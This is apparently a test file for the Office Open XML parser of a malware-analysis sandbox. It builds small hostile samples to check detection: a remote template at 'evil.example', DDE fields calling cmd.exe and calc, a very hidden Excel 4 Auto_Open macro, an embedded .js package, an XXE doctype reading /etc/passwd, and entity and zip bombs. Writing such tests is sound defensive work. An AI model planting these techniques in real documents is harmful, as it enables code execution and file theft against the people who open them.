import io
import struct
import zipfile
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lib.cuckoo.common.exceptions import CuckooProcessingError
from lib.cuckoo.files.budget import Budget
from lib.cuckoo.files.office.ooxml import describe_ooxml
from tests.files.compoundwriter import compound, vba_project
from tests.files.reading import read, survives

RELATION = (
    '<Relationships xmlns="x"><Relationship Id="r1" Type="http://s/relationships/{kind}" Target="{target}" '
    'TargetMode="External"/><Relationship Id="r2" Type="http://s/relationships/theme" Target="t.xml"/></Relationships>'
)


def document(parts: dict[str, str | bytes]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        for name, content in parts.items():
            archive.writestr(name, content)
    return stream.getvalue()


def office(parts: dict[str, str | bytes], budget: Budget | None = None) -> Any:
    return read(describe_ooxml, document(parts), budget)


def test_a_template_from_elsewhere_is_external() -> None:
    relation = RELATION.format(kind="attachedTemplate", target="http://evil.example/t.dotm")

    found = office({"word/_rels/settings.xml.rels": relation})

    assert found["external"] == [
        {"type": "attachedTemplate", "target": "http://evil.example/t.dotm", "part": "word/settings.xml"}
    ]
    assert found["urls"] == ["http://evil.example/t.dotm"]


def test_a_field_split_into_runs_is_joined() -> None:
    runs = "".join(
        f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in ("DD", "E", " c:\\cmd.exe /k")
    )
    begin, end = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
    text = f'<w:p xmlns:w="w">{begin}{runs}{end}<w:fldSimple w:instr=" DDEAUTO calc "/></w:p>'

    assert office({"word/document.xml": text})["dde"] == ["DDE c:\\cmd.exe /k", "DDEAUTO calc"]


def test_a_macro_sheet_with_its_state_and_formulas() -> None:
    found = office(
        {
            "xl/workbook.xml": '<workbook xmlns:r="r"><sheets><sheet name="Run" state="veryHidden" r:id="r1"/></sheets>'
            '<definedNames><definedName name="_xlnm.Auto_Open">Run!A1</definedName></definedNames></workbook>',
            "xl/_rels/workbook.xml.rels": '<R><Relationship Id="r1" Target="macrosheets/sheet1.xml"/></R>',
            "xl/macrosheets/sheet1.xml": '<x><c r="A1"><f>EXEC("calc")</f><v>0</v></c></x>',
        }
    )

    assert found["excel4"] == [{"name": "Run", "state": "very hidden", "formulas": ['=EXEC("calc")']}]
    assert found["names"] == ["_xlnm.Auto_Open"]


def test_a_document_behind_other_data_is_read() -> None:
    data = b"MZ" * 50 + document({"docProps/app.xml": "<x><Company>c</Company></x>"})

    assert read(describe_ooxml, data)["metadata"] == {"company": "c"}


def test_an_embedded_package_is_unwrapped() -> None:
    body = b"\2\0a.js\0C:\\a.js\0\0\0\3\0" + struct.pack("<I", 1) + b"\0" + struct.pack("<I", 3) + b"abc"
    native = compound({"\1Ole10Native": struct.pack("<I", len(body)) + body})

    found = office({"word/embeddings/oleObject1.bin": native})

    assert [(each["name"], each["size"]) for each in found["objects"]] == [
        ("word/embeddings/oleObject1.bin", len(native)),
        ("C:\\a.js", 3),
    ]


@pytest.mark.parametrize(
    "xml",
    [
        '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><x><title>&b;</title></x>',
        '<!DOCTYPE x SYSTEM "file:///etc/passwd"><x/>',
        "<a>" * 5000,
        "\0\0\0",
    ],
)
def test_hostile_xml_is_noted_and_spoils_only_its_part(xml: str) -> None:
    budget = Budget()

    found = office({"docProps/core.xml": xml, "docProps/app.xml": "<x><Company>c</Company></x>"}, budget)

    assert found["metadata"] == {"company": "c"}
    assert budget.notes


def test_a_part_that_unpacks_to_more_than_allowed_is_noted() -> None:
    budget = Budget(unpacked=1 << 20)
    bomb = "<x><Company>" + "a" * (8 << 20)

    found = office(
        {"docProps/app.xml": bomb, "word/vbaProject.bin": compound(vba_project({"M": b"x"}))}, budget
    )

    assert found["metadata"] == {}
    assert budget.notes[0] == "office: the file unpacks to more than the option unpacked allows"


def test_a_document_without_parts_is_refused() -> None:
    with pytest.raises(CuckooProcessingError, match="no parts"):
        read(describe_ooxml, b"PK\x05\x06" + bytes(18))


@given(
    st.dictionaries(st.sampled_from(["xl/workbook.xml", "docProps/core.xml", "word/_rels/a.rels"]), st.text())
)
def test_any_parts_are_survived(parts: dict[str, str]) -> None:
    survives(
        describe_ooxml, document({name: text.encode("utf-8", "replace") for name, text in parts.items()})
    )
